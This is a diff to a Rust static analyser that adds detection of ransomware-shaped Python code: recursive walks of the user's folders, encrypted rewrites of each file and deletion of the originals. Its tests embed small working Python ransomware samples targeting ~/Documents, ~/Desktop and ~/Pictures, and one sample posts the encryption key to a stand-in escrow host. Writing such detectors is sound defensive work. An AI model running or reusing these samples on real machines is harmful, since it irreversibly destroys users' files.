@@ -48,11 +48,16 @@ pub fn extract(src: &Src, sink: &mut Sink) {
         conts: HashMap::new(),
         argvs: HashMap::new(),
         evasion_fns: HashSet::new(),
+        enc_writes: Vec::new(),
+        enc_vars: HashSet::new(),
+        user_dirs: Vec::new(),
     };
     let root = tree.root_node();
+    let start = cx.sink.items.len();
     cx.collect_imports(root);
     cx.collect_defs(root);
     cx.block(root, &Ctx::default(), 0);
+    cx.ransom(start);
 }
 
 /// Bound on the candidates a container-valued expression stands for.
@@ -147,6 +152,13 @@ struct Py<'s, 'a> {
     /// checks (container marker, CI variables, CPU count, host name): a
     /// condition calling one is an environment gate.
     evasion_fns: HashSet<String>,
+    /// Writes of encrypted data: (call start, call end, enclosing function).
+    enc_writes: Vec<(usize, usize, Option<String>)>,
+    /// Variables holding the result of an `encrypt(...)` call.
+    enc_vars: HashSet<String>,
+    /// The user's own folders (`~/Documents`, `~/Desktop`, ...) the file
+    /// names as values.
+    user_dirs: Vec<String>,
 }
 
 /// Standard-library and popular third-party roots: never skill-local.
@@ -487,6 +499,9 @@ impl<'s, 'a> Py<'s, 'a> {
                         {
                             vals = self.comp_values(r);
                         }
+                        for v in &vals {
+                            self.note_value(v);
+                        }
                         let pick = riskiest(&vals);
                         if let Some(v) = pick {
                             self.vars.insert(name.clone(), v);
@@ -716,6 +731,9 @@ impl<'s, 'a> Py<'s, 'a> {
         }
         if left.kind() == "identifier" && matches!(right.kind(), "list" | "tuple" | "set") {
             let vals = self.iter_values(right);
+            for v in &vals {
+                self.note_value(v);
+            }
             if !vals.is_empty() {
                 self.lists.insert(self.t(left).to_string(), vals);
             }
@@ -723,12 +741,20 @@ impl<'s, 'a> Py<'s, 'a> {
         if left.kind() == "identifier" && node.kind() == "assignment" {
             let name = self.t(left).to_string();
             self.argvs.remove(&name);
+            if self.is_encrypt(right) {
+                self.enc_vars.insert(name.clone());
+            } else {
+                self.enc_vars.remove(&name);
+            }
             if matches!(
                 right.kind(),
                 "list_comprehension" | "set_comprehension" | "generator_expression"
             ) {
                 // `[HOME / d for d in ("Documents", "Desktop")]`
                 let vals = self.comp_values(right);
+                for v in &vals {
+                    self.note_value(v);
+                }
                 if vals.is_empty() {
                     self.conts.remove(&name);
                 } else {
@@ -776,6 +802,7 @@ impl<'s, 'a> Py<'s, 'a> {
             }
             if let Some(v) = &value {
                 if left.kind() == "identifier" {
+                    self.note_value(v);
                     self.vars.insert(n, v.clone());
                 }
             }
@@ -1465,6 +1492,17 @@ impl<'s, 'a> Py<'s, 'a> {
                 &name,
             );
             return;
+        }
+        if matches!(method.as_str(), "write" | "write_bytes" | "write_text")
+            && arg0.is_some_and(|a| {
+                self.is_encrypt(a) || a.kind() == "identifier" && self.enc_vars.contains(self.t(a))
+            })
+        {
+            self.enc_writes.push((
+                c.start_byte(),
+                c.end_byte(),
+                cx.func.as_ref().map(|f| f.0.clone()),
+            ));
         }
         if matches!(
             method.as_str(),
@@ -2355,6 +2393,137 @@ impl<'s, 'a> Py<'s, 'a> {
         out
     }
 
+    /// `fernet.encrypt(data)`, `cipher.encrypt(...)`, `encrypt_bytes(...)`.
+    fn is_encrypt(&self, n: Node) -> bool {
+        if n.kind() != "call" {
+            return false;
+        }
+        let Some(f) = n.child_by_field_name("function") else {
+            return false;
+        };
+        let last = match f.kind() {
+            "attribute" => f.child_by_field_name("attribute").map(|a| self.t(a)),
+            "identifier" => Some(self.t(f)),
+            _ => None,
+        }
+        .unwrap_or("")
+        .to_lowercase();
+        last.contains("encrypt") && !last.contains("decrypt")
+    }
+
+    /// Ransomware shape: files found by walking the user's folders, each
+    /// one's contents written out encrypted, and the original deleted (in
+    /// the encrypting function or one it calls). Adds one destructive step
+    /// at the encrypting write.
+    fn ransom(&mut self, start: usize) {
+        if self.enc_writes.is_empty() {
+            return;
+        }
+        let items = &self.sink.items[start.min(self.sink.items.len())..];
+        let walked = items.iter().any(|e| {
+            e.op == Op::FileRead
+                && e.object == "file system scan"
+                && (e.instrument.ends_with("rglob")
+                    || e.instrument == "os.walk"
+                    || e.instrument.contains("glob") && e.target.contains("**"))
+        });
+        let user = !self.user_dirs.is_empty()
+            || items.iter().any(|e| {
+                e.object == "file system scan" && (e.has(Tag::WideScan) || e.scope == R::UserData)
+            });
+        if !walked || !user {
+            return;
+        }
+        // Functions that delete files, directly or through local calls.
+        let mut deleters: HashSet<String> = items
+            .iter()
+            .filter(|e| e.op == Op::FileDelete && e.lang == LANG)
+            .filter_map(|e| e.func.clone())
+            .collect();
+        let top_level_delete = items
+            .iter()
+            .any(|e| e.op == Op::FileDelete && e.lang == LANG && e.func.is_none());
+        loop {
+            let n = deleters.len();
+            for e in items.iter().filter(|e| e.op == Op::CallLocal) {
+                if let Some(f) = &e.func {
+                    if deleters.contains(&e.target) {
+                        deleters.insert(f.clone());
+                    }
+                }
+            }
+            if deleters.len() == n {
+                break;
+            }
+        }
+        let Some((a, b, func)) = self
+            .enc_writes
+            .iter()
+            .find(|(_, _, f)| match f {
+                Some(f) => deleters.contains(f),
+                None => top_level_delete,
+            })
+            .cloned()
+        else {
+            return;
+        };
+        let target = if self.user_dirs.is_empty() {
+            "the user's files".to_string()
+        } else {
+            self.user_dirs.join(", ")
+        };
+        // Whatever the encrypting routine (or one it calls) sends away: the
+        // key held for ransom, the victim's host and user.
+        let mut reach: HashSet<Option<String>> = HashSet::from([func.clone()]);
+        loop {
+            let n = reach.len();
+            for e in items.iter().filter(|e| e.op == Op::CallLocal) {
+                if reach.contains(&e.func) {
+                    reach.insert(Some(e.target.clone()));
+                }
+            }
+            if reach.len() == n {
+                break;
+            }
+        }
+        let sent = items
+            .iter()
+            .find(|e| e.op == Op::NetSend && e.lang == LANG && reach.contains(&e.func))
+            .map(|e| {
+                let mut s = Evidence::new(Op::NetSend, A::Transfer, R::Network, e.target.clone())
+                    .object("data sent by the routine that encrypts the user's files")
+                    .instrument(e.instrument.clone())
+                    .tag(Tag::MassEncrypt);
+                s.location = e.location.clone();
+                s.snippet = e.snippet.clone();
+                s.origin = e.origin;
+                s.lang = LANG;
+                s.func = e.func.clone();
+                s
+            });
+        let mut ev = Evidence::new(Op::FileDelete, A::Write, R::UserData, target)
+            .object("user files encrypted and the originals deleted (ransomware)")
+            .instrument("encrypt")
+            .tag(Tag::MassEncrypt);
+        ev.func = func;
+        let ev = self.src.at(ev, a, b, LANG);
+        self.sink.push(ev);
+        if let Some(s) = sent {
+            self.sink.push(s);
+        }
+    }
+
+    /// Remembers that the file names the user's own folders.
+    fn note_value(&mut self, v: &str) {
+        let (scope, _) = classify_path(v);
+        if scope == R::UserData
+            && self.user_dirs.len() < 8
+            && !self.user_dirs.iter().any(|d| d == v)
+        {
+            self.user_dirs.push(v.to_string());
+        }
+    }
+
     /// `b"..."` literal arguments and variables holding them.
     fn literal_bytes_arg(&self, a: Node) -> Option<String> {
         if a.kind() == "identifier" {
@@ -3065,6 +3234,60 @@ mod tests {
         );
         assert!(ev.iter().any(|e| e.op == Op::FileRead), "{ev:#?}");
         assert!(!ev.iter().any(|e| e.scope == R::Credentials), "{ev:#?}");
+    }
+
+    const RANSOM: &str = "from pathlib import Path\nfrom cryptography.fernet import Fernet\nHOME = Path.home()\nROOTS = [HOME / d for d in ('Documents', 'Desktop', 'Pictures')]\ndef shred(p):\n    p.unlink()\ndef walk(roots):\n    for root in roots:\n        for p in root.rglob('*'):\n            yield p\ndef lock():\n    f = Fernet(Fernet.generate_key())\n    for p in walk(ROOTS):\n        p.with_suffix('.vault').write_bytes(f.encrypt(p.read_bytes()))\n        shred(p)\n";
+
+    #[test]
+    fn ransomware_shape() {
+        let ev = run(RANSOM);
+        let d = ev
+            .iter()
+            .find(|e| e.op == Op::FileDelete && e.has(Tag::MassEncrypt))
+            .expect("mass encryption");
+        assert!(d.target.contains("~/Documents"), "{d:#?}");
+        // Read, encrypt into a variable, write through a handle, os.remove.
+        let ev = run(
+            "import os\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor dp, _, names in os.walk(os.path.expanduser('~/Documents')):\n    for n in names:\n        p = os.path.join(dp, n)\n        data = open(p, 'rb').read()\n        enc = f.encrypt(data)\n        with open(p + '.enc', 'wb') as out:\n            out.write(enc)\n        os.remove(p)\n",
+        );
+        assert!(ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{ev:#?}");
+    }
+
+    #[test]
+    fn ransomware_key_escrow_is_a_send() {
+        let code = format!(
+            "import requests\n{RANSOM}    escrow(f)\ndef escrow(k):\n    requests.post('https://escrow.example/k', data=k)\n"
+        );
+        let ev = run(&code);
+        assert!(
+            ev.iter()
+                .any(|e| e.op == Op::NetSend && e.has(Tag::MassEncrypt)),
+            "{ev:#?}"
+        );
+        // An encrypted backup upload that keeps the originals.
+        let ev = run(
+            "import requests\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor p in (Path.home() / 'Documents').rglob('*.md'):\n    requests.put('https://backup.example/' + p.name, data=f.encrypt(p.read_bytes()))\n",
+        );
+        assert!(ev.iter().any(|e| e.op == Op::NetSend), "{ev:#?}");
+        assert!(!ev.iter().any(|e| e.has(Tag::MassEncrypt)), "{ev:#?}");
+    }
+
+    #[test]
+    fn encrypting_backups_are_not_ransomware() {
+        for code in [
+            // One user-chosen file, original kept.
+            "import sys\nfrom pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(Path('key').read_bytes())\np = Path(sys.argv[1])\nPath(str(p) + '.enc').write_bytes(f.encrypt(p.read_bytes()))\n",
+            // Walks Documents and writes encrypted copies, keeps the originals.
+            &RANSOM.replace("        shred(p)\n", ""),
+            // Walks and encrypts a project folder, deletes originals: no user folders.
+            "from pathlib import Path\nfrom cryptography.fernet import Fernet\nf = Fernet(KEY)\nfor p in Path('secrets').rglob('*.env'):\n    p.with_suffix('.enc').write_bytes(f.encrypt(p.read_bytes()))\n    p.unlink()\n",
+        ] {
+            let ev = run(code);
+            assert!(
+                !ev.iter().any(|e| e.has(Tag::MassEncrypt)),
+                "{code}: {ev:#?}"
+            );
+        }
     }
 
     #[test]
